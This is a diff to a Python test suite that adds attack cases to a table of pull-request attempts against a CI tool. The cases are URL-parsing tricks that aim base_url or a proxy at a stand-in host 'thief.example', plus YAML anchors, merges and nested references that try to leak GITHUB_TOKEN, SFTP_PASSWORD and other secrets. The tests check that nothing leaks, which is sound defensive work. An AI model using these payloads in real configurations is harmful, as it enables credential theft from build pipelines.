@@ -158,6 +158,12 @@ ATTEMPTS: dict[str, Change] = {
     "any address": kobo("base_url: https://0.0.0.0:8800"),
     "a mapped address": kobo("base_url: 'https://[::ffff:10.0.0.1]'"),
     "a hexadecimal address": kobo("base_url: https://0x7f000001"),
+    "an address in the middle": kobo("base_url: 'https://[::1].thief.example'"),
+    "an address at the end": kobo("base_url: 'https://thief.example[::1]:443'"),
+    "a zone": kobo("base_url: 'https://[fe80::1%25eth0]'"),
+    "a dot at the end": kobo("base_url: https://localhost."),
+    "a host in percent": kobo("base_url: https://api.kobolabs.io%2ethief.example"),
+    "a proxy like this machine": kobo("proxy: 'http://[::1].thief.example:3128'"),
     "the cloud's metadata": kobo("base_url: https://169.254.169.254"),
     "a host in a variable": both(
         kobo("base_url: 'https://${var.h}'"), more("variables: {h: thief.example}")
@@ -194,6 +200,23 @@ ATTEMPTS: dict[str, Change] = {
     "a folder": more("manifests: '${env.GITHUB_TOKEN}'"),
     "a guard": more("guard: {max_deletes: '${env.GITHUB_TOKEN}'}"),
     "an environment's name": more("environments: {'${env.GITHUB_TOKEN}': {}}"),
+    "blanks in a reference": kobo("base_url: 'https://thief.example/${ env . GITHUB_TOKEN }'"),
+    "a reference in a reference": more("variables: {x: '${var.${env.GITHUB_TOKEN}}'}"),
+    "a variable of another case": kobo("tier: '${ENV.GITHUB_TOKEN}'"),
+    "an anchor": both(
+        settings("${env.KOBO_API_KEY}", "&k ${env.GITHUB_TOKEN}"),
+        more("variables: {x: *k}"),
+        supplier("${var.x}"),
+    ),
+    "a merge": more("variables: {<<: {x: '${env.GITHUB_TOKEN}'}}"),
+    "an environment's variable": both(
+        more("environments: {live: {variables: {x: '${env.GITHUB_TOKEN}'}}}"),
+        supplier("${var.x}"),
+    ),
+    "an environment's secret": more(
+        "environments: {live: {secrets: {sftp: '${env.RECONCILER_PLAN_KEY}'}}}"
+    ),
+    "a secret inside a secret": settings("${env.SFTP_PASSWORD}", "{x: '${env.SFTP_PASSWORD}'}"),
     "a part of a secret": settings("${env.SFTP_PASSWORD}", "x${env.SFTP_PASSWORD}"),
     # manifests
     "a name in a manifest": supplier("${env.GITHUB_TOKEN}"),
@@ -337,7 +360,7 @@ def test_a_pull_request_gets_nothing(shop: Shop, attempt: str) -> None:
     """Every command that CI would run ends with an exit code of ours and no traceback; nothing was
     asked of another host than the vendors', and no variable is in any output or file."""
     shop.change(ATTEMPTS[attempt])
-    overlay = ("--env", "live") if attempt == "an environment" else ()
+    overlay = ("--env", "live") if attempt.startswith("an environment") else ()
     shown: list[Result] = []
     for words in COMMANDS:
         shown.append(shop.run("-C", str(shop.root), *overlay, *words))
